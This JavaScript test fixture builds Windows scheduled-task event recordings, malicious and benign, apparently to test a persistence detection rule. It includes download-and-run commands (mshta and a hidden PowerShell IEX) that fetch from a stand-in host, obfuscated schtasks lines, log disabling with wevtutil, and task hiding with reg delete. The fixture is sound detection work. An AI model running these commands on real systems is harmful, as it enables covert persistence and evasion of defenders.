// Command lines and scripts that create tasks, as attacks do it and as everybody does it.
import { commandRun, processAudit, scriptBlock, time } from '../events.js';
import { DOMAIN_SID, keller, typed } from '../cast.js';

const at = (second) => time(`2026-03-02T19:30:${String(second).padStart(2, '0')}`);
const SCHTASKS = 'C:\\Windows\\System32\\schtasks.exe';
const POWERSHELL = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe';

const run = (second, commandLine, more) =>
  typed({
    host: 'ws-014',
    at: at(second),
    image: SCHTASKS,
    originalName: 'schtasks.exe',
    commandLine,
    ...more,
  });
const shell = (second, commandLine) =>
  run(second, commandLine, { image: POWERSHELL, originalName: 'PowerShell.EXE' });

const script = (second, text, path) =>
  scriptBlock({ host: 'ws-014', at: at(second), user: `${DOMAIN_SID}-1147`, script: text, path });

export const recordings = {
  'command-schtasks.xml': () => [
    run(
      1,
      'schtasks /create /sc minute /mo 5 /tn Sync /tr C:\\Users\\m.keller\\AppData\\Local\\calc_update.exe',
    ),
    run(
      2,
      'schtasks  /Create /F /RU "NT AUTHORITY\\SYSTEM" /SC ONSTART /TN Agent /TR "C:\\Program Files\\Northwind\\agent.exe"',
    ),
    run(
      3,
      'schtasks /create /s SRV-003 /tn Sync /tr "C:\\Windows\\System32\\notepad.exe" /sc once /st 23:59',
    ),
    run(4, 'schtasks /change /tn "\\Northwind\\Nightly" /tr "cscript.exe //B D:\\jobs\\n.txt"'),
    run(
      5,
      '"C:\\Windows\\System32\\schtasks.exe" /create /tn Office /sc minute /mo 60 /tr "mshta.exe https://cdn.northwind-update.example/a.hta"',
    ),
  ],
  'command-evasive.xml': () => [
    run(11, 'schtasks -CREATE -tn "x" -SC once -st 23:59 -Tr "c^md /c who""ami"'),
    run(
      12,
      'C:\\Users\\Public\\s.exe /create /tn Backup /tr "D:\\Northwind\\backup.exe" /sc daily',
      {
        image: 'C:\\Users\\Public\\s.exe',
      },
    ),
    run(13, 'cmd.exe /c "SCH^TASKS /cr""eate /tn y /tr p^owershell /sc daily"', {
      image: 'C:\\Windows\\System32\\cmd.exe',
      originalName: 'Cmd.Exe',
    }),
    run(14, 'schtasks /create /tn z /tr "D:\\Northwind\\backup.exe" /sc daily', {
      parentImage: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE',
      parentCommandLine: '"WINWORD.EXE" /n "letter.docm"',
    }),
  ],
  'command-at-and-powershell.xml': () => [
    run(21, 'at  13:20 /interactive cmd', {
      image: 'C:\\Windows\\System32\\at.exe',
      originalName: 'AT.EXE',
    }),
    shell(
      22,
      'powershell -c "regISTER-scheduledTASK -TaskName a -Action (New-ScheduledTaskAction -Execute D:\\n.exe)"',
    ),
    shell(23, 'powershell -nop "(New-Object -ComObject Sched`ule.Serv`ice).Connect()"'),
    shell(
      24,
      'powershell Invoke-CimMethod -ClassName PS_ScheduledTask -Namespace Root/Microsoft/Windows/TaskScheduler -MethodName RegisterByXml',
    ),
    run(25, 'wmic /node:SRV-003 job call create "D:\\n.exe",0,0,true,********154800.000000-420', {
      image: 'C:\\Windows\\System32\\wbem\\WMIC.exe',
      originalName: 'wmic.exe',
    }),
  ],
  'command-audited.xml': () => [
    processAudit({
      host: 'ws-014',
      at: at(31),
      who: keller,
      image: SCHTASKS,
      parentImage: 'C:\\Windows\\System32\\cmd.exe',
      commandLine: 'schtasks /create /sc once /st 23:59 /tn q /tr "cmd.exe /c whoami & net user"',
    }),
  ],
  'command-script-block.xml': () => [
    script(
      41,
      "$a = New-ScheduledTaskAction -Execute 'powershell.exe' -Argument \"-w hidden -c IEX (New-Object Net.WebClient).DownloadString('https://cdn.northwind-update.example/p')\"\r\nRegister-ScheduledTask -TaskName 'Sync' -Action $a",
    ),
  ],
  'command-triggers.xml': () => [
    run(45, 'schtasks /create /sc ONIDLE /i 5 /tn Screen /tr C:\\Windows\\System32\\calc.exe'),
    run(46, 'schtasks /Change /TN "\\Northwind\\Nightly" /RU corp\\m.keller /RP hunter2'),
  ],
  'command-scripts-plain.xml': () => [
    script(
      1,
      '$s = New-Object -ComObject Schedule.Service; $s.Connect(); $t = $s.NewTask(0); $a = $t.Actions.Create(0); $a.Path = "notepad.exe"; $s.GetFolder("\\").RegisterTaskDefinition("Reader", $t, 6, "", "", 3)',
    ),
    script(
      2,
      'Invoke-CimMethod -ClassName PS_ScheduledTask -Namespace Root/Microsoft/Windows/TaskScheduler -MethodName RegisterByXml -Arguments @{ Force = $true; Xml = $x }',
    ),
    commandRun({
      host: 'ws-014',
      at: at(3),
      user: `${DOMAIN_SID}-1147`,
      command: 'Register-ScheduledTask',
      parameters: [
        ['TaskName', 'Reader'],
        ['InputObject', 'MSFT_ScheduledTask'],
      ],
    }),
    script(4, 'schtasks /create /tn Reader /tr D:\\r.exe /sc daily'),
    commandRun({
      host: 'ws-014',
      at: at(5),
      user: `${DOMAIN_SID}-1147`,
      command: 'Invoke-Expression',
      parameters: [['Command', 'schtasks /create /f /tn Writer /tr D:\\w.exe /sc daily']],
    }),
  ],
  'command-other-ways.xml': () => [
    run(
      5,
      'reg delete "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Schedule\\TaskCache\\Tree\\Reader" /v SD /f',
      { image: 'C:\\Windows\\System32\\reg.exe', originalName: 'reg.exe' },
    ),
    run(6, 'wevtutil sl Microsoft-Windows-TaskScheduler/Operational /e:false', {
      image: 'C:\\Windows\\System32\\wevtutil.exe',
      originalName: 'wevtutil.exe',
    }),
    run(7, 'tool.exe -t schtask -c "C:\\Windows\\notepad.exe" -n Reader -m add', {
      image: 'D:\\tool.exe',
      originalName: 'SharPersist.exe',
    }),
    run(8, 'schtasks /RUN /s SRV-003 /tn Reader'),
    run(9, 'schtasks /create /tn Reader /tr \\\\10.20.0.9\\share\\r.exe /sc once /st 23:59'),
    run(10, 'schtasks /create /tn {0F4C7A7E-6D2B-4F0A-9B8E-2C1D3E4F5A6B} /tr D:\\r.exe /sc daily'),
  ],
  'command-near-queries.xml': () => [
    run(51, 'schtasks /query /tn "\\Northwind\\Nightly" /v /fo list'),
    run(52, 'schtasks /run /tn cmd.exe'),
    run(53, 'schtasks /delete /tn powershell /f'),
    run(54, 'NETSTAT.EXE -at 10:30', {
      image: 'C:\\Windows\\System32\\NETSTAT.EXE',
      originalName: 'netstat.exe',
    }),
    run(55, 'notepad.exe "C:\\Users\\m.keller\\Documents\\how to schtasks and create.txt"', {
      image: 'C:\\Windows\\System32\\notepad.exe',
      originalName: 'NOTEPAD.EXE',
    }),
    shell(56, 'powershell Get-ScheduledTask -TaskName Nightly'),
  ],
  'command-near-setup.xml': () => [
    run(
      57,
      'schtasks /create /tn "Northwind Report" /tr "\\"C:\\Program Files\\Northwind\\Report\\report.exe\\" /daily" /sc daily /st 09:00',
    ),
    run(
      58,
      'schtasks.exe /Create /TN Northwind /RU SYSTEM /SC DAILY /TR "C:\\Program Files\\Northwind\\agent.exe"',
      {
        user: 'NT AUTHORITY\\SYSTEM',
        integrity: 'System',
        parentImage: 'C:\\Windows\\System32\\msiexec.exe',
        parentCommandLine: 'C:\\Windows\\system32\\msiexec.exe /V',
      },
    ),
    script(
      58,
      'Register-ScheduledTask -TaskName Northwind -InputObject $task',
      'C:\\Program Files\\Northwind\\Agent\\setup.ps1',
    ),
    script(57, 'function global:Register-ScheduledTask { $__cmdletization_methodInvocationInfo }'),
    script(
      59,
      'function Register-ScheduledTask { [CmdletBinding()] param([string] $TaskName) }',
      'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\Modules\\ScheduledTasks\\PS_ScheduledTask_v1.0.cdxml',
    ),
  ],
};

/** What the malicious events of a recording are: all that `ordinary` does not except. */
export const attacks = {
  'command-schtasks.xml':
    'schtasks for SYSTEM, for another host, with an interpreter, a web address and a path in AppData',
  'command-evasive.xml': 'carets, quotes, dashes for slashes, a renamed copy, and a child of Word',
  'command-at-and-powershell.xml':
    'at, Register-ScheduledTask in mixed case, WMI and a COM object in a command line',
  'command-audited.xml': 'schtasks with a shell, seen by process auditing alone',
  'command-script-block.xml': 'a script block registers a hidden download',
  'command-triggers.xml':
    'a task at idle for a system tool, and an existing task that gets another account',
  'command-scripts-plain.xml':
    'scripts that register without a second sign, by COM, by WMI, by a cmdlet and an expression in module logging, and by schtasks',
  'command-other-ways.xml':
    'the task cache by reg, the log switched off, a known tool, a run and a program on another host, a task of no installed software',
};
